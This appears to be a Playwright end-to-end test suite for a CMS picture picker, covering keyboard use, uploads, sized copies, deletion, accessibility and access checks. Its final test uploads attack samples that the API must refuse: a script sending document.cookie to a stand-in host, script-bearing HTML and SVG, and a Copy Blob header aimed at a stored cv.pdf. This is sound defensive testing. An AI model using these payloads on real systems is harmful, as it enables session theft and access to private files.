import { PICTURE_SIZE_CODES, sizedPicturesContainer } from '@alz/shared/media/picture-containers';
import { expectNoAxeViolations, widths } from '../support/axe';
import {
  blobNames,
  blobService,
  cmsDemo as demo,
  enterEditorKey,
  pickerOrigin,
  pngOf,
  sizedCopies,
} from '../support/picker';
import { expect, test, type Page } from '../support/test';

// The editors' picker (spec 2 §4), mounted into a plain CMS form page through mf-picker's entry
// script (mf-picker/public/cms-demo.html), against real blob storage (Azurite): the seeded
// pictures, and what these tests upload and delete. One at a time, as they change the container.
test.describe.configure({ mode: 'serial' });

const openPanel = async (page: Page) => {
  await page.getByRole('button', { name: 'Afbeelding kiezen' }).click();
  const panel = page.getByRole('dialog', { name: 'Beeldbank' });
  await expect(panel.getByRole('list', { name: 'Afbeeldingen in de beeldbank' })).toBeVisible();
  return panel;
};

test('a CMS form page mounts the picker; a picture chosen by keyboard alone fills its hidden input', async ({
  page,
}) => {
  await page.goto(demo());
  await expect(page.getByRole('heading', { level: 1, name: 'Nieuwsbericht bewerken' })).toBeVisible();
  await enterEditorKey(page);
  const open = page.getByRole('button', { name: 'Afbeelding kiezen' });
  await open.focus();
  await page.keyboard.press('Enter');
  const panel = page.getByRole('dialog', { name: 'Beeldbank' });
  const pictures = panel
    .getByRole('list', { name: 'Afbeeldingen in de beeldbank' })
    .getByRole('button')
    .filter({ hasNotText: 'Verwijderen' });
  await expect(pictures).toHaveCount(6);
  await expect(panel.getByText('6 van 6 afbeeldingen getoond.')).toBeVisible();
  // All shown: there is nothing to load, so no "Meer laden".
  await expect(panel.getByRole('button', { name: 'Meer laden' })).toHaveCount(0);

  // Tab into the list, an arrow moves to the next picture, Space marks it, Tab on to "Kies …".
  await pictures.nth(0).focus();
  await page.keyboard.press('ArrowRight');
  await expect(pictures.nth(1)).toBeFocused();
  const name = (await pictures.nth(1).textContent())!;
  await page.keyboard.press('Space');
  await expect(pictures.nth(1)).toHaveAttribute('aria-pressed', 'true');
  // The grid is one tab stop: its current picture's delete button, then out of the list. "Kies"
  // is a few Tabs on, not one per picture (a roving tabindex).
  await page.keyboard.press('Tab');
  await expect(panel.getByRole('button', { name: `Verwijderen ${name}` })).toBeFocused();
  const choose = panel.getByRole('button', { name: `Kies '${name}'` });
  let tabs = 0;
  while (!(await choose.evaluate((button) => button === document.activeElement)) && tabs < 10) {
    await page.keyboard.press('Tab');
    tabs++;
  }
  await expect(choose).toBeFocused();
  expect(tabs).toBeLessThanOrEqual(4);
  await page.keyboard.press('Enter');
  await expect(panel).toBeHidden();
  await expect(open).toBeFocused();

  const url = `http://localhost:${process.env.PICKER_PORT}/blobstorage/pictures/${encodeURIComponent(name)}`;
  await expect(page.locator('input[type="hidden"][name="header_image"]')).toHaveValue(url);
  await expect(page.getByRole('status')).toHaveText(`Gekozen: ${url}`);
  await expect(page.getByText(`Gekozen afbeelding: ${name}`)).toBeVisible();
  // Choosing it made its sized copies, one in each size's container (spec 2 §7).
  const copies = await sizedCopies(name.replace(/\.svg$/, ''));
  expect(Object.values(copies).map((names) => names.length)).toEqual(PICTURE_SIZE_CODES.map(() => 1));
  // The chosen picture is shown, and loads through the read-only blob path.
  const preview = page.getByRole('group', { name: 'Afbeelding' }).locator('img');
  await expect(preview).toHaveAttribute('src', url);
  await expect.poll(() => preview.evaluate((img: HTMLImageElement) => img.complete && img.naturalWidth > 0)).toBe(true);

  // The form sends it: the CMS receives the address.
  await page.getByRole('button', { name: 'Opslaan' }).click();
  await expect(page).toHaveURL(new RegExp(`header_image=${encodeURIComponent(url).replaceAll('.', '\\.')}`));
  await expect(page.locator('input[type="hidden"][name="header_image"]')).toHaveValue(url);
});

test('a double click chooses at once; Escape closes without a change; the picture can be taken away', async ({
  page,
}) => {
  await page.goto(demo());
  await enterEditorKey(page);
  await page.getByRole('button', { name: 'Afbeelding kiezen' }).click();
  const panel = page.getByRole('dialog', { name: 'Beeldbank' });
  await panel.getByRole('button', { name: 'samen-zingen.svg', exact: true }).dblclick();
  await expect(panel).toBeHidden();
  const hidden = page.locator('input[type="hidden"][name="header_image"]');
  await expect(hidden).toHaveValue(/\/samen-zingen\.svg$/);
  await page.getByRole('button', { name: 'Afbeelding kiezen' }).click();
  await expect(panel.getByRole('button', { name: 'samen-zingen.svg', exact: true })).toHaveAttribute(
    'aria-pressed',
    'true',
  );
  await page.keyboard.press('Escape');
  await expect(panel).toBeHidden();
  await expect(hidden).toHaveValue(/\/samen-zingen\.svg$/);
  await page.getByRole('button', { name: 'Afbeelding weghalen' }).click();
  await expect(hidden).toHaveValue('');
  await expect(page.getByText('Nog geen afbeelding gekozen.')).toBeVisible();
});

for (const { label, viewport } of widths) {
  test(`the CMS page and the open picker panel have no axe violations (${label})`, async ({ page }) => {
    await page.setViewportSize(viewport);
    await page.goto(demo());
    await expect(page.getByRole('button', { name: 'Afbeelding kiezen' })).toBeVisible();
    await expectNoAxeViolations(page);
    await page.getByRole('button', { name: 'Afbeelding kiezen' }).click();
    const panel = page.getByRole('dialog', { name: 'Beeldbank' });
    await expect(panel.getByRole('button', { name: 'samen-zingen.svg', exact: true })).toBeVisible();
    await expectNoAxeViolations(page);
    expect(await page.evaluate(() => document.documentElement.scrollWidth <= window.innerWidth)).toBe(true);
  });
}

test('the CMS page carries the rich-text editor in both modes; what is written goes into the form as draft JSON', async ({
  page,
}) => {
  await page.goto(demo());
  const admin = page.getByRole('toolbar', { name: 'Opmaak van Tekst van het bericht' });
  const blog = page.getByRole('toolbar', { name: 'Opmaak van Korte samenvatting' });
  await expect(admin.getByRole('button')).toHaveCount(13);
  await expect(blog.getByRole('button')).toHaveText([
    'Vetgedrukt',
    'Bullet lijst',
    'Genummerde lijst',
    'Hyperlink toevoegen',
    'Hyperlink verwijderen',
  ]);

  // Typed text, then bold for what follows (Ctrl+B, as in any editor), by keyboard alone.
  const text = page.getByRole('textbox', { name: 'Tekst van het bericht' });
  await text.click();
  await page.keyboard.type('Samen wandelen ');
  await page.keyboard.press('Control+b');
  await page.keyboard.type('helpt');
  await expect(admin.getByRole('button', { name: 'Vetgedrukt' })).toHaveAttribute('aria-pressed', 'true');
  await expect
    .poll(async () => JSON.parse((await page.locator('#body').inputValue()) || '{}'))
    .toMatchObject({
      blocks: [
        {
          text: 'Samen wandelen helpt',
          type: 'unstyled',
          inlineStyleRanges: [{ offset: 15, length: 5, style: 'BOLD' }],
        },
      ],
      entityMap: {},
    });

  // The toolbar is one stop for Tab; arrow keys move inside it.
  await blog.getByRole('button', { name: 'Vetgedrukt' }).focus();
  await page.keyboard.press('ArrowRight');
  await expect(blog.getByRole('button', { name: 'Bullet lijst' })).toBeFocused();
  await page.keyboard.press('End');
  await expect(blog.getByRole('button', { name: 'Hyperlink verwijderen' })).toBeFocused();
});

for (const { label, viewport } of widths) {
  test(`the editors in admin and blog mode have no axe violations (${label})`, async ({ page }) => {
    await page.setViewportSize(viewport);
    await page.goto(demo());
    await expect(page.getByRole('toolbar', { name: 'Opmaak van Korte samenvatting' })).toBeVisible();
    await page.getByRole('textbox', { name: 'Korte samenvatting' }).click();
    await page.keyboard.type('Een korte tekst.');
    await expectNoAxeViolations(page);
  });
}

test('an uploaded PNG is listed first with all its sized copies; chosen, it fills the field; deleted, its copies go too', async ({
  page,
}) => {
  await page.goto(demo());
  await enterEditorKey(page);
  const png = await pngOf(page, 1200, 800);
  let panel = await openPanel(page);
  await panel.getByRole('button', { name: 'Afbeelding uploaden' }).click();
  const upload = page.getByRole('dialog', { name: 'Afbeelding uploaden' });
  const submit = upload.getByRole('button', { name: 'Uploaden' });
  await expect(submit).toBeDisabled();
  // A disabled button looks it: another background than the usable one, text still readable.
  const looks = () =>
    submit.evaluate((button) => {
      const style = getComputedStyle(button);
      return `${style.backgroundColor} ${style.color}`;
    });
  const disabledLook = await looks();
  await upload
    .getByLabel('Afbeelding op uw computer')
    .setInputFiles({ name: 'Tuin e2e.png', mimeType: 'image/png', buffer: png });
  await expect(upload.getByRole('img', { name: 'Voorbeeld van Tuin e2e.png' })).toBeVisible();
  await expect(submit).toBeEnabled();
  expect(disabledLook).toBe('rgb(228, 231, 235) rgb(63, 69, 75)');
  expect(await looks()).not.toBe(disabledLook);
  await submit.click();
  await expect(upload).toBeHidden();

  // Newest first, marked, so "Kies" takes it.
  const first = panel.getByRole('list', { name: 'Afbeeldingen in de beeldbank' }).getByRole('listitem').first();
  await expect(first.getByRole('button', { name: 'Tuin e2e.png', exact: true })).toHaveAttribute(
    'aria-pressed',
    'true',
  );
  await expect.poll(() => blobNames('pictures', 'Tuin e2e')).toEqual(['Tuin e2e.png']);
  const copies = await sizedCopies('Tuin e2e');
  expect(copies).toEqual(
    Object.fromEntries(PICTURE_SIZE_CODES.map((code) => [sizedPicturesContainer(code), [`Tuin e2e-${code}.png`]])),
  );
  // The copies are the planned sizes, written at quality 0.75 by the browser's canvas.
  const crop = await blobService()
    .getContainerClient('pictures-404x227')
    .getBlobClient('Tuin e2e-404x227.png')
    .download();
  expect(crop.contentType).toBe('image/png');
  const header = await page.request.get(
    `${pickerOrigin()}/blobstorage/pictures-404x227/${encodeURIComponent('Tuin e2e-404x227.png')}`,
  );
  const body = await header.body();
  expect([body.readUInt32BE(16), body.readUInt32BE(20)]).toEqual([404, 227]);
  const wide = await page.request.get(
    `${pickerOrigin()}/blobstorage/pictures-300w/${encodeURIComponent('Tuin e2e-300w.png')}`,
  );
  expect([(await wide.body()).readUInt32BE(16), (await wide.body()).readUInt32BE(20)]).toEqual([300, 200]);

  await panel.getByRole('button', { name: "Kies 'Tuin e2e.png'" }).click();
  await expect(panel).toBeHidden();
  const hidden = page.locator('input[type="hidden"][name="header_image"]');
  await expect(hidden).toHaveValue(`${pickerOrigin()}/blobstorage/pictures/Tuin%20e2e.png`);

  // Deleting it, by keyboard alone, asks first, then removes the original and every copy, and
  // the field lets go of it.
  panel = await openPanel(page);
  await panel.getByRole('button', { name: 'Verwijderen Tuin e2e.png' }).focus();
  await page.keyboard.press('Enter');
  const confirm = page.getByRole('dialog', { name: 'Afbeelding verwijderen' });
  await expect(confirm).toContainText("Weet u zeker dat u 'Tuin e2e.png' wilt verwijderen?");
  await expect(confirm.getByRole('button', { name: 'Sluit' })).toBeFocused();
  for (const { viewport } of widths) {
    await page.setViewportSize(viewport);
    await expectNoAxeViolations(page);
  }
  await page.keyboard.press('Tab');
  await expect(confirm.getByRole('button', { name: 'Ja, verwijderen' })).toBeFocused();
  await page.keyboard.press('Enter');
  await expect(confirm).toBeHidden();
  await expect(panel.getByRole('button', { name: 'Tuin e2e.png', exact: true })).toHaveCount(0);
  await expect(panel.getByRole('heading', { name: 'Beeldbank' })).toBeFocused();
  expect(await blobNames('pictures', 'Tuin e2e')).toEqual([]);
  expect(Object.values(await sizedCopies('Tuin e2e')).flat()).toEqual([]);
  await page.keyboard.press('Escape');
  await expect(hidden).toHaveValue('');
});

test('a file that is no picture is refused by its content; without the editor key an upload says "Niet bevoegd…"', async ({
  page,
}) => {
  await page.goto(demo());
  const panel = await openPanel(page);
  await panel.getByRole('button', { name: 'Afbeelding uploaden' }).click();
  const upload = page.getByRole('dialog', { name: 'Afbeelding uploaden' });
  const field = upload.getByLabel('Afbeelding op uw computer');
  // A PDF with a picture's name and type.
  await field.setInputFiles({
    name: 'foto.png',
    mimeType: 'image/png',
    buffer: Buffer.from('%PDF-1.7\n1 0 obj\n<<>>\nendobj\n'),
  });
  await expect(upload.getByRole('alert')).toHaveText(
    'Fout: Dit bestand is geen afbeelding. Kies een JPG-, PNG-, GIF- of WebP-bestand.',
  );
  await expect(upload.getByRole('button', { name: 'Uploaden' })).toBeDisabled();
  for (const { viewport } of widths) {
    await page.setViewportSize(viewport);
    await expectNoAxeViolations(page);
  }

  // A real picture, but no key typed: the api refuses the write, nothing is written.
  await field.setInputFiles({ name: 'zonder-sleutel.png', mimeType: 'image/png', buffer: await pngOf(page, 64, 64) });
  await upload.getByRole('button', { name: 'Uploaden' }).click();
  await expect(upload).toBeHidden();
  await expect(panel.getByRole('alert')).toHaveText('Niet bevoegd: u hebt geen toegang tot de beeldbank.');
  expect(await blobNames('pictures', 'zonder-sleutel')).toEqual([]);

  // A wrong key is no better.
  await page.keyboard.press('Escape');
  await enterEditorKey(page, 'geraden-sleutel');
  const again = await openPanel(page);
  await again.getByRole('button', { name: 'Afbeelding uploaden' }).click();
  await upload
    .getByLabel('Afbeelding op uw computer')
    .setInputFiles({ name: 'zonder-sleutel.png', mimeType: 'image/png', buffer: await pngOf(page, 64, 64) });
  await upload.getByRole('button', { name: 'Uploaden' }).click();
  await expect(again.getByRole('alert')).toHaveText('Niet bevoegd: u hebt geen toegang tot de beeldbank.');
  expect(await blobNames('pictures', 'zonder-sleutel')).toEqual([]);
});

test('with more than 15 pictures, "Meer laden" or scrolling to the end shows the next ones until all are shown', async ({
  page,
}) => {
  const pictures = blobService().getContainerClient('pictures');
  const names = Array.from({ length: 14 }, (_, index) => `extra-${String(index + 1).padStart(2, '0')}.svg`);
  const svg =
    '<svg xmlns="http://www.w3.org/2000/svg" width="32" height="18"><rect width="32" height="18" fill="#dcecf2"/></svg>';
  await Promise.all(
    names.map((name) =>
      pictures
        .getBlockBlobClient(name)
        .upload(svg, svg.length, { blobHTTPHeaders: { blobContentType: 'image/svg+xml' } }),
    ),
  );
  try {
    await page.goto(demo());
    const panel = await openPanel(page);
    const list = panel.getByRole('list', { name: 'Afbeeldingen in de beeldbank' }).getByRole('listitem');
    await expect(list).toHaveCount(15);
    await expect(panel.getByText('15 van 20 afbeeldingen getoond.')).toBeVisible();
    // By keyboard: "Meer laden" stands in the panel's sticky bar, so focusing it scrolls nothing
    // (the end of the list stays out of view); focus goes on to the first new picture.
    const more = panel.getByRole('button', { name: 'Meer laden' });
    await more.focus();
    await page.keyboard.press('Enter');
    await expect(list).toHaveCount(20);
    await expect(list.nth(15).getByRole('button').first()).toBeFocused();
    await expect(panel.getByText('20 van 20 afbeeldingen getoond.')).toBeVisible();
    await expect(more).toHaveCount(0);

    // Scrolling: the end of the list coming into view shows the next page (spec 2 §4, §9).
    await page.keyboard.press('Escape');
    await openPanel(page);
    await expect(list).toHaveCount(15);
    await panel.getByRole('heading', { name: 'Beeldbank' }).hover();
    await page.mouse.wheel(0, 10000);
    await expect(list).toHaveCount(20);
    await expect(panel.getByText('20 van 20 afbeeldingen getoond.')).toBeVisible();
    await expect(more).toHaveCount(0);
  } finally {
    await Promise.all(names.map((name) => pictures.deleteBlob(name)));
  }
});

test('the api takes only pictures, whoever sends them: script, a page, an SVG with script and a copy of a cv are refused and never served', async ({
  request,
}) => {
  const origin = pickerOrigin();
  const token = (await (await request.get(`${origin}/api/v1/anti-forgery`)).json()) as { Token: string };
  const editor = {
    Origin: origin,
    Authorization: `Bearer ${process.env.E2E_PICKER_EDITOR_KEY}`,
    RequestVerificationToken: token.Token,
  };
  const attempts: [string, string, string, Record<string, string>?][] = [
    ['aanval.js', 'text/javascript', 'document.location="https://kwaadwillend.example/?"+document.cookie;'],
    ['aanval.png', 'image/png', 'alert(document.cookie);'],
    ['pagina.html', 'text/html', '<!doctype html><script>alert(1)</script>'],
    ['tekening.svg', 'image/svg+xml', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'],
    // A Copy Blob names its source in a header and has storage fetch it; the api reads only the body.
    [
      'kopie.png',
      'image/png',
      '',
      {
        'x-ms-copy-source': 'http://127.0.0.1:10000/alzapplications/applications/0000/cv.pdf',
        'x-ms-requires-sync': 'true',
      },
    ],
  ];
  for (const [name, type, body, extra] of attempts) {
    const answer = await request.put(`${origin}/api/v1/picker/pictures/pictures/${encodeURIComponent(name)}`, {
      headers: { ...editor, 'Content-Type': type, ...extra },
      data: Buffer.from(body),
    });
    expect([name, answer.status()]).toEqual([name, 400]);
    expect(((await answer.json()) as { message: string }).message).toBe(
      'Dit bestand is geen afbeelding. Kies een JPG-, PNG-, GIF- of WebP-bestand.',
    );
    expect(await blobNames('pictures', name)).toEqual([]);
    expect((await request.get(`${origin}/blobstorage/pictures/${encodeURIComponent(name)}`)).status()).toBe(404);
  }
  // The old way in, a storage token, is gone; and through the site's /blobstorage/ path no write goes.
  expect((await request.post(`${origin}/api/v1/picker/token`, { headers: editor })).status()).toBe(404);
  for (const method of ['PUT', 'DELETE']) {
    const through = await request.fetch(`${origin}/blobstorage/pictures/aanval.png`, {
      method,
      headers: { 'x-ms-blob-type': 'BlockBlob' },
      data: 'x',
    });
    expect([method, through.status()]).toEqual([method, 405]);
  }
});
